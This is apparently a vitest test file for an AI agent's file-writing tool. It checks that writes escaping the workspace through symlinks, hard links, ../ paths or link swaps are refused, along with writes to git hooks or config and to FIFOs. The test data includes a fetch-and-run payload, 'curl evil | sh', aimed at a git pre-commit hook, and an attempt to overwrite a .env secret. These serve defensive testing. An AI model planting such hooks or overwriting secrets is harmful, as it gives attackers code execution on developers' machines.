import { execFileSync } from 'node:child_process';
import { chmod, link, lstat, mkdir, readdir, readFile, readlink, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { silentLog } from '../../../core/contract/BrainContext.js';
import type { BhrainToolResult } from '../../tool/BhrainToolBox.js';
import { genFilesToolBox } from './genFilesToolBox.js';
import type { WriteCheck } from './openInsideWorkspace.js';
import { tempDir } from '#test-helpers/fs.js';

// every test below runs the write tool in a fresh temp dir
let cwd: string;
const box = genFilesToolBox();
const write = (input: Record<string, unknown>): Promise<BhrainToolResult> =>
  box.execute({ call: { id: 'call-1', name: 'write', input } }, { cwd, log: silentLog, env: {} });

beforeEach(async () => {
  cwd = tempDir('bhrain-write-');
});
afterEach(async () => {
  await chmod(join(cwd, 'locked'), 0o755).catch(() => {});
  await rm(cwd, { recursive: true, force: true });
});

describe('write', () => {
  it('write writes to disk, creating parent directories, and returns success', async () => {
    const result = await write({ path: 'deep/er/new.txt', content: 'one\ntwo\n' });
    expect(result).toEqual({
      callId: 'call-1',
      success: true,
      output: 'Created deep/er/new.txt: wrote 8 bytes, 2 lines.',
    });
    expect(await readFile(join(cwd, 'deep/er/new.txt'), 'utf8')).toBe('one\ntwo\n');
  });

  it('write over an existing file says it overwrote it', async () => {
    await writeFile(join(cwd, 'old.txt'), 'previous content');
    const result = await write({ path: 'old.txt', content: 'é' });
    expect(result.success).toBe(true);
    expect(result.output).toBe('Overwrote old.txt (it was 16 bytes): wrote 2 bytes, 1 line.');
    expect(await readFile(join(cwd, 'old.txt'), 'utf8')).toBe('é');
  });

  it('turns a directory target into an error result (EISDIR)', async () => {
    await mkdir(join(cwd, 'folder'));
    const result = await write({ path: 'folder', content: 'x' });
    expect(result.success).toBe(false);
    expect(result.output).toContain('folder');
    expect(result.output).toContain('EISDIR');
  });

  it.skipIf(process.getuid?.() === 0)('turns a permission failure into an error result naming the path and cause', async () => {
    await mkdir(join(cwd, 'locked'));
    await chmod(join(cwd, 'locked'), 0o500);
    const result = await write({ path: 'locked/file.txt', content: 'x' });
    expect(result.success).toBe(false);
    expect(result.output).toContain('locked/file.txt');
    expect(result.output).toContain('permission denied (EACCES)');
  });

  it('turns a file in the way of a parent directory into an error result', async () => {
    await writeFile(join(cwd, 'plain'), 'x');
    const result = await write({ path: 'plain/child.txt', content: 'x' });
    expect(result.success).toBe(false);
    expect(result.output).toContain('plain/child.txt');
    expect(result.output).toMatch(/ENOTDIR|EEXIST/);
  });

  it('rejects a missing content field with an error result', async () => {
    expect(await write({ path: 'x.txt' })).toMatchObject({ success: false, output: expect.stringContaining('input.content is required') });
  });
});

describe('the real path is decided as the file is opened, whatever the permission check saw', () => {
  // the workspace is cwd/ws; cwd/outside is beside it, and nothing there may change without an approval of that file
  let ws: string;
  let outside: string;
  const writeIn = (input: Record<string, unknown>, writeCheck: WriteCheck | null = null) =>
    box.execute({ call: { id: 'call-1', name: 'write', input } }, { cwd: ws, log: silentLog, env: {}, writeCheck } as Parameters<
      typeof box.execute
    >[1]);
  beforeEach(async () => {
    cwd = await realpath(cwd);
    ws = join(cwd, 'ws');
    outside = join(cwd, 'outside');
    await mkdir(ws);
    await mkdir(outside);
    await writeFile(join(outside, 't'), 'original\n');
  });

  it('refuses a write through a directory symlink that points out, and creates nothing there, not even a directory', async () => {
    await symlink('../outside', join(ws, 'd'));
    for (const path of ['d/f', 'd/sub/deeper/f', join(ws, 'd/f')]) {
      const result = await writeIn({ path, content: 'escaped' });
      expect(result.success).toBe(false);
      expect(result.output).toMatch(
        new RegExp(
          `^Refused to write .+: it resolves to ${outside}/.+, outside the workspace ${ws}, and changing a file outside the workspace was not approved`,
        ),
      );
    }
    expect(await readdir(outside)).toEqual(['t']);
  });

  it('refuses ../ paths outside without creating a directory there, and answers the workspace itself as a directory', async () => {
    expect((await writeIn({ path: '../outside/new/f', content: 'x' })).output).toMatch(
      /^Refused to write .+: it resolves to .+\/outside\/new\/f, outside the workspace/,
    );
    expect((await writeIn({ path: '../beside/f', content: 'x' })).output).toMatch(
      /^Refused to write .+: it resolves to .+\/beside\/f, outside the workspace/,
    );
    expect(await readdir(cwd)).toEqual(['outside', 'ws']);
    expect(await readdir(outside)).toEqual(['t']);
    expect((await writeIn({ path: '.', content: 'x' })).output).toBe(
      'Cannot write .: it is a directory (EISDIR). Give the path of a file, e.g. ./<name>.',
    );
  });

  it('refuses a write through a last-component symlink, dangling or not, that points out; follows one that points inside', async () => {
    await symlink(join(outside, 't'), join(ws, 'to-file'));
    await symlink('../outside/new', join(ws, 'dangling'));
    await symlink('../outside/missing-dir', join(ws, 'dangling-dir'));
    await mkdir(join(ws, 'sub'));
    await symlink('sub', join(ws, 'to-sub'));
    await symlink('to-sub/../inside.txt', join(ws, 'to-inside'));
    for (const path of ['to-file', 'dangling', 'dangling-dir/f'])
      expect((await writeIn({ path, content: 'escaped' })).output).toMatch(/^Refused to write /);
    expect(await readdir(outside)).toEqual(['t']);
    expect(await readFile(join(outside, 't'), 'utf8')).toBe('original\n');
    expect(await writeIn({ path: 'to-inside', content: 'via links' })).toMatchObject({
      success: true,
      output: 'Created to-inside: wrote 9 bytes, 1 line.',
    });
    expect(await readFile(join(ws, 'inside.txt'), 'utf8')).toBe('via links');
    expect(await readlink(join(ws, 'to-inside'))).toBe('to-sub/../inside.txt');
  });

  it('refuses a file with other hard links unless that file was approved; an approval of another file does not count', async () => {
    await link(join(outside, 't'), join(ws, 'hl'));
    const refused = await writeIn({ path: 'hl', content: 'changed' });
    expect(refused).toMatchObject({
      success: false,
      output: expect.stringMatching(
        /^Refused to write hl: it has 2 hard links, .+ Nothing was changed\. To change only this name, give it its own copy first \(bash: cp -p hl hl\.copy && mv hl\.copy hl\)/,
      ),
    });
    expect((await writeIn({ path: 'hl', content: 'changed' }, { realPath: join(ws, 'other'), approved: true })).success).toBe(false);
    expect(await readFile(join(outside, 't'), 'utf8')).toBe('original\n');
    expect(await writeIn({ path: 'hl', content: 'approved' }, { realPath: join(ws, 'hl'), approved: true })).toMatchObject({
      success: true,
    });
    expect(await readFile(join(outside, 't'), 'utf8')).toBe('approved');
  });

  it('writes outside only to the very file approved, through the links that lead there', async () => {
    await symlink('../outside', join(ws, 'd'));
    expect(await writeIn({ path: 'd/new/f', content: 'ok' }, { realPath: join(outside, 'new/f'), approved: true })).toMatchObject({
      success: true,
    });
    expect(await readFile(join(outside, 'new/f'), 'utf8')).toBe('ok');
    expect((await writeIn({ path: 'd/other', content: 'no' }, { realPath: join(outside, 'new/f'), approved: true })).output).toBe(
      `Refused to write d/other: it now resolves to ${join(outside, 'other')}, not to ${join(outside, 'new/f')} as when its permission was checked (a link on the way changed in between). Nothing was changed. Retry the call, so that the permission check sees the file as it is now.`,
    );
    expect(await readdir(outside)).toEqual(['new', 't']);
  });

  it('changes only the file the permission check judged: a.txt swapped for a link to .env after the check is refused', async () => {
    await writeFile(join(ws, '.env'), 'SECRET=1\n');
    await symlink('.env', join(ws, 'a.txt'));
    const output = (await writeIn({ path: 'a.txt', content: 'SECRET=stolen\n' }, { realPath: join(ws, 'a.txt'), approved: false })).output;
    expect(output).toMatch(
      new RegExp(`^Refused to write a\\.txt: it now resolves to ${ws}/\\.env, not to ${ws}/a\\.txt as when its permission was checked`),
    );
    expect(await readFile(join(ws, '.env'), 'utf8')).toBe('SECRET=1\n');
    expect((await writeIn({ path: 'a.txt', content: 'SECRET=2\n' }, { realPath: join(ws, '.env'), approved: false })).success).toBe(true);
  });

  it('refuses git hooks and git config, directly or through a link, unless that file was approved', async () => {
    await mkdir(join(ws, '.git/hooks'), { recursive: true });
    await symlink('.git/hooks', join(ws, 'hooks'));
    for (const path of ['.git/hooks/pre-commit', 'hooks/post-merge', '.git/config'])
      expect((await writeIn({ path, content: 'curl evil | sh' })).output).toMatch(
        /^Refused to write .+: it resolves to .+, in \.git\/(hooks\/|config), a protected path \((git runs as code|git reads as configuration).*, outside any sandbox\), and changing it was not approved/,
      );
    expect(await readdir(join(ws, '.git/hooks'))).toEqual([]);
    expect((await writeIn({ path: '.git/description', content: 'mine' })).success).toBe(true);
    expect(
      (await writeIn({ path: '.git/hooks/pre-commit', content: 'ok' }, { realPath: join(ws, '.git/hooks/pre-commit'), approved: true }))
        .success,
    ).toBe(true);
  });

  it('refuses a FIFO rather than hang on it, and keeps the mode of a file it overwrites', async () => {
    execFileSync('mkfifo', [join(ws, 'pipe')]);
    expect((await writeIn({ path: 'pipe', content: 'x' })).output).toBe(
      'Refused to write pipe: it is not a regular file (a FIFO, socket or device). Nothing was changed. Give the path of a regular file.',
    );
    await writeFile(join(ws, 'script.sh'), 'old', { mode: 0o750 });
    expect((await writeIn({ path: 'script.sh', content: 'new' })).success).toBe(true);
    expect((await lstat(join(ws, 'script.sh'))).mode & 0o777).toBe(0o750);
  });
});
